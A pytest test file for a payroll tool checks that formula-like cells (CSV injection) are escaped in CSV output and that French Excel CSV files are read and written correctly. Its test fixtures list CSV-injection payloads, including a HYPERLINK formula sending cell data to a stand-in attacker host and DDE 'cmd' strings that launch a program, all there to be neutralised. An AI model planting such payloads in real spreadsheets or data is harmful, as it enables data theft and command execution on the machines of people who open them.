"""Bulk CSV files and spreadsheets (issue 15): text cells a spreadsheet would
evaluate (``=HYPERLINK(…)``, ``+cmd|…``, ``@SUM(…)``: CSV injection, CWE-1236)
are neutralised in CSV output by default, following OWASP, with an option to
write them as they are; ``--excel`` reads and writes French Excel's CSV
(``;``, Windows-1252 or UTF-8 with BOM, decimal comma)."""

from __future__ import annotations

import codecs
from decimal import Decimal
from pathlib import Path

import pytest

pa = pytest.importorskip("pyarrow")
pv = pytest.importorskip("pyarrow.csv")
pq = pytest.importorskip("pyarrow.parquet")

from amcalc.bulk.files import payroll_file  # noqa: E402
from amcalc.cli import main  # noqa: E402

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"ok")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
               "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def hostile_csv(path: Path) -> Path:
    lines = ["id,hourly_rate,weeks,month,mon,tue,centre"]
    lines += [f'"{i.replace(chr(34), chr(34) * 2)}",4.00,52,2025-03,9,9,=1+1' for i in HOSTILE_IDS]
    lines += ["-12,4.00,52,2025-03,9,9,-3.5", "lea,4.00,52,2025-03,9,9,A12"]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def cells(path: Path, column: str, **options: object) -> list[str]:
    names = pv.read_csv(path, **options).schema.names
    convert = pv.ConvertOptions(column_types=dict.fromkeys(names, pa.string()))
    return pv.read_csv(path, convert_options=convert, **options).column(column).to_pylist()


def test_formula_looking_text_is_neutralised_in_csv_output(tmp_path: Path) -> None:
    target = tmp_path / "paie.csv"
    payroll_file(hostile_csv(tmp_path / "mois.csv"), target, keep_extra=True)
    assert cells(target, "id") == ["'" + i for i in HOSTILE_IDS] + ["-12", "lea"]
    assert cells(target, "centre") == ["'=1+1"] * len(HOSTILE_IDS) + ["-3.5", "A12"]
    # the figures are numbers, not text: written as they are, negative or not
    assert cells(target, "gross_salary") == ["312.00"] * (len(HOSTILE_IDS) + 2)


def test_an_option_writes_text_as_it_is(tmp_path: Path) -> None:
    target = tmp_path / "paie.csv"
    assert main(["payroll", str(hostile_csv(tmp_path / "mois.csv")), "-o", str(target), "--keep-extra",
                 "--keep-formulas", "--processes", "0", "-q"]) == 0
    assert cells(target, "id") == [*HOSTILE_IDS, "-12", "lea"]


def test_parquet_output_keeps_text_as_it_is(tmp_path: Path) -> None:
    target = tmp_path / "paie.parquet"
    payroll_file(hostile_csv(tmp_path / "mois.csv"), target, keep_extra=True)
    assert pq.read_table(target).column("id").to_pylist() == [*HOSTILE_IDS, "-12", "lea"]


# a French Excel « CSV (séparateur : point-virgule) »: ';', Windows-1252, decimal comma;
# 4,50 € × 9 h × 2 days × 52 / 12 = 78 h: 351,00 €; 2,85 € is under the minimum rate
EXCEL = ("id;hourly_rate;weeks;start;month;mon;tue;centre\r\n"
         "léa;4,50;52;2024-11-04;2025-03;9;9;Crèche été\r\n"
         "théo;2,85;52;2024-11-04;2025-03;9;9;Crèche été\r\n"
         "zoé;4,50;52;2024-11-04;2025-03;7,5;10,5;Crèche été\r\n")


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8-sig", "utf-8"])
def test_a_french_excel_file_is_read_with_excel(tmp_path: Path, encoding: str) -> None:
    source = tmp_path / "mois.csv"
    source.write_bytes(EXCEL.encode(encoding))
    target = tmp_path / "paie.parquet"
    stats = payroll_file(source, target, excel=True, keep_extra=True)
    result = pq.read_table(target)
    assert (stats.rows, stats.errors) == (3, 1)
    assert result.column("id").to_pylist() == ["léa", "théo", "zoé"]
    assert result.column("centre").to_pylist() == ["Crèche été"] * 3
    # zoé: 18 h a week, 78 h a month at 4,50 € as léa
    assert result.column("gross_salary").to_pylist() == [Decimal("351.00"), None, Decimal("351.00")]
    assert result.column("error_code").to_pylist() == [None, "below_minimum_rate", None]


def test_without_excel_a_french_excel_file_says_how_to_read_it(tmp_path: Path) -> None:
    source = tmp_path / "mois.csv"
    source.write_bytes(EXCEL.encode("cp1252"))
    with pytest.raises(Exception, match="se lit avec --excel"):
        payroll_file(source, tmp_path / "paie.csv")


def test_excel_output_is_french_excel_s_csv_and_reads_back(tmp_path: Path) -> None:
    source = tmp_path / "mois.csv"
    source.write_bytes(EXCEL.encode("cp1252"))
    target = tmp_path / "paie.csv"
    assert main(["payroll", str(source), "-o", str(target), "--excel", "--keep-extra", "--processes", "0",
                 "-q"]) == 0
    data = target.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    header, first = data.decode("utf-8-sig").splitlines()[:2]
    assert header.startswith('"id";"centre";"month";"route";"error_code"')
    assert '"léa";"Crèche été";2025-03-01;"vector"' in first and ';"351,00";' in first
    options = {"parse_options": pv.ParseOptions(delimiter=";")}
    assert cells(target, "net_salary", **options)[0].count(",") == 1
    # the result, as Excel wrote it, is an input of next month's run (--excel again)
    again = tmp_path / "encore.parquet"
    table = pv.read_csv(target, parse_options=pv.ParseOptions(delimiter=";"),
                        convert_options=pv.ConvertOptions(column_types={"month": pa.string()}))
    assert table.column("month").to_pylist() == ["2025-03-01"] * 3
    source.write_bytes(EXCEL.replace("2025-03", "2025-03-01").encode("cp1252"))
    payroll_file(source, again, excel=True, keep_extra=True)
    assert pq.read_table(again).column("gross_salary").to_pylist()[0] == Decimal("351.00")
